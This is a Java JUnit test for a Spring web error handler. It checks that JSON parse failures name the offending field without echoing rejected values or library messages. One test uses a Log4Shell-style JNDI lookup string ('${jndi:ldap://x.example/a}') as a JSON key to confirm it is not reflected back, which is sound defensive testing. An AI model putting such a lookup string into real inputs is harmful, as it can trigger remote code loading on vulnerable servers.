package nl.samenspel.shared.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.datatype.jsr310.JavaTimeModule;
import java.time.LocalDate;
import java.util.List;
import nl.samenspel.shared.domain.InvalidField;
import org.junit.jupiter.api.Test;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpStatus;
import org.springframework.http.ProblemDetail;
import org.springframework.http.ResponseEntity;
import org.springframework.http.converter.HttpMessageNotReadableException;
import org.springframework.mock.http.MockHttpInputMessage;

class ProblemDetailsAdviceTest {

    private static final ObjectMapper JSON = new ObjectMapper().registerModule(new JavaTimeModule());

    record Period(LocalDate startsOn) {
    }

    record Checked(String bsn) {
        Checked {
            throw new IllegalArgumentException("not a BSN: " + bsn);
        }
    }

    record OwnCheck(String code) {
        OwnCheck {
            throw new InvalidField("code", "is not a known code");
        }
    }

    /** A value object inside a request: its constructor's failure belongs to the field that holds it. */
    record Request(Checked person, OwnCheck kind) {
    }

    private static ProblemDetail unreadable(String json, Class<?> type) {
        return unreadable(JSON, json, type);
    }

    private static ProblemDetail unreadable(ObjectMapper mapper, String json, Class<?> type) {
        Throwable failure = catchThrowable(() -> mapper.readValue(json, type));
        ResponseEntity<Object> response = new ProblemDetailsAdvice().handleHttpMessageNotReadable(
                new HttpMessageNotReadableException("unreadable", failure, new MockHttpInputMessage(new byte[0])),
                new HttpHeaders(), HttpStatus.BAD_REQUEST, null);
        assertThat(response.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
        return (ProblemDetail) response.getBody();
    }

    @Test
    void aValueThatFailsToParseIsNamedByItsField() {
        ProblemDetail problem = unreadable("{\"startsOn\": \"2026-02-30\"}", Period.class);

        assertThat(problem.getProperties()).containsEntry("errors",
                List.of(new ProblemDetailsAdvice.FieldProblem("startsOn", "must be a date (YYYY-MM-DD)")));
    }

    @Test
    void aLibrarysMessageAboutARejectedValueIsNotPassedOn() {
        ProblemDetail problem = unreadable("{\"person\": {\"bsn\": \"123456782\"}}", Request.class);

        assertThat(problem.getProperties()).containsEntry("errors",
                List.of(new ProblemDetailsAdvice.FieldProblem("person", "is invalid")));
        assertThat(problem.toString()).doesNotContain("123456782");
    }

    @Test
    void ourOwnMessageAboutAValueIsPassedOn() {
        ProblemDetail problem = unreadable("{\"kind\": {\"code\": \"x\"}}", Request.class);

        assertThat(problem.getProperties()).containsEntry("errors",
                List.of(new ProblemDetailsAdvice.FieldProblem("kind", "is not a known code")));
    }

    @Test
    void anUnknownFieldIsNamedOnlyIfItLooksLikeAFieldName() {
        ObjectMapper strict = JSON.copy().enable(com.fasterxml.jackson.databind.DeserializationFeature
                .FAIL_ON_UNKNOWN_PROPERTIES);

        assertThat(unreadable(strict, "{\"startsOn\": null, \"anonymus\": true}", Period.class).getProperties())
                .containsEntry("errors", List.of(new ProblemDetailsAdvice.FieldProblem("anonymus",
                        "is not a known field")));
        ProblemDetail hostile = unreadable(strict, "{\"${jndi:ldap://x.example/a}\": 1}", Period.class);
        assertThat(hostile.getProperties()).containsEntry("errors",
                List.of(new ProblemDetailsAdvice.FieldProblem("(unknown field)", "is not a known field")));
        assertThat(hostile.toString()).doesNotContain("jndi");
    }

    @Test
    void malformedJsonNamesNoField() {
        ProblemDetail problem = unreadable("{\"startsOn\": ", Period.class);

        assertThat(problem.getType().toString()).endsWith("malformed-json");
        assertThat(problem.getProperties() == null || !problem.getProperties().containsKey("errors")).isTrue();
    }
}
